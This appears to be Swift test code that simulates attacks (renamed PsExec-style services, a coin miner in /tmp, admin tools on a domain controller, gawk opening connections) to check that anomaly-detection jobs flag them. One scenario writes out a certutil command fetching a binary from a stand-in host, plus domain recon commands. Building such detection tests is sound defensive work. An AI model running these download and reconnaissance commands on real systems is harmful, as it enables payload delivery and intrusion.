/// A tool under a name nobody has ever run, on one Windows machine.
enum OddWindowsProcess: CaseStudy {
  static let scenario = Scenario(
    id: "odd-process-windows", title: "A process never seen, Windows", attack: ["T1036.005", "T1569.002"],
    summary: "A renamed remote-execution service is started on one machine.",
    jobs: ["windows_rare_process_all_hosts", "windows_rare_process_by_host"])

  static func play(on stage: inout Stage) {
    let host = stage.victim(.windowsServer, .fileServer, .laptop)
    let start = stage.moment(on: host)
    let name = stage.random.pick(["psexesvc.exe", "winupdsvc.exe", "csrsss.exe", "rclonew.exe"])
    let program = Program(
      name, in: #"C:\Windows\"#, from: WindowsPrograms.system32, by: WindowsPrograms.services, as: .system,
      on: [], .always(0))
    stage.start(program, on: host, at: start)
    stage.start(program, on: host, at: start + 240_000)
    stage.expect(
      "\(name), never seen before", in: .process, from: start, to: start + 240_000, jobs: scenario.jobs,
      match: ["process.name": name, "host.name": host.name])
  }
}

/// A miner in the temporary folder of one Linux machine.
enum Miner: CaseStudy {
  static let scenario = Scenario(
    id: "miner", title: "A process never seen, Linux", attack: ["T1496", "T1059.004"],
    summary: "A coin miner is started under a web server's account.",
    jobs: ["linux_rare_process_all_hosts", "linux_rare_process_by_host"])

  static func play(on stage: inout Stage) {
    let host = stage.victim(.linuxWeb, .linuxCloud)
    let start = stage.moment(on: host)
    let name = stage.random.pick(["kdevtmpfsi", "kinsing", "xmrigd"])
    let program = Program(
      name, in: "/tmp/", from: "/tmp", by: LinuxPrograms.shell, as: .service("www-data"), on: [], .always(0))
    stage.start(program, on: host, at: start)
    stage.start(program, on: host, at: start + 61_000)
    stage.expect(
      "\(name), never seen before", in: .process, from: start, to: start + 61_000, jobs: scenario.jobs,
      match: ["process.name": name, "host.name": host.name])
  }
}

/// What administrators use on their own machines, now on a domain controller.
enum BorrowedTool: CaseStudy {
  static let scenario = Scenario(
    id: "borrowed-tool", title: "An administrator's tool on a domain controller",
    attack: ["T1105", "T1003.003", "T1018"],
    summary: "A tool common on administrators' machines runs on a domain controller that never ran it.",
    jobs: ["windows_rare_process_by_host"])

  static func play(on stage: inout Stage) {
    let host = stage.victim(.domainController)
    let start = stage.moment(on: host)
    let (name, arguments) = stage.random.pick([
      ("certutil.exe", "-urlcache -split -f https://files.brightharbor.example/<word>.bin"),
      ("nltest.exe", "/domain_trusts"), ("net.exe", "group /domain"),
    ])
    let program = Program(
      name, in: WindowsPrograms.system32, [arguments], by: WindowsPrograms.command, as: .system, on: [],
      .always(0))
    stage.start(program, on: host, at: start)
    stage.expect(
      "\(name) on a domain controller", in: .process, from: start, to: start, jobs: scenario.jobs,
      match: ["process.name": name, "host.name": host.name])
  }
}

/// A tool of every script that has never opened a connection, and now does.
enum LinuxNewcomer: CaseStudy {
  static let scenario = Scenario(
    id: "linux-newcomer", title: "A Linux process that never talked", attack: ["T1059.004", "T1095"],
    summary: "gawk, started thousands of times a day, opens connections for the first time.",
    jobs: ["linux_anomalous_network_activity"])

  static func play(on stage: inout Stage) {
    let host = stage.victim(.linuxDatabase, .linuxWeb)
    let start = stage.moment(on: host)
    let endpoint = stage.usualEndpoint()
    let talker = Talker("gawk", in: "/usr/bin/", as: .system)
    for index in 0..<5 {
      stage.connect(talker, on: host, to: endpoint, port: 443, at: start + Milliseconds(index) * 180_000)
    }
    stage.expect(
      "gawk opens connections", in: .network, from: start, to: start + 720_000, jobs: scenario.jobs,
      match: ["process.name": "gawk", "host.name": host.name, "destination.ip": endpoint.address])
  }
}
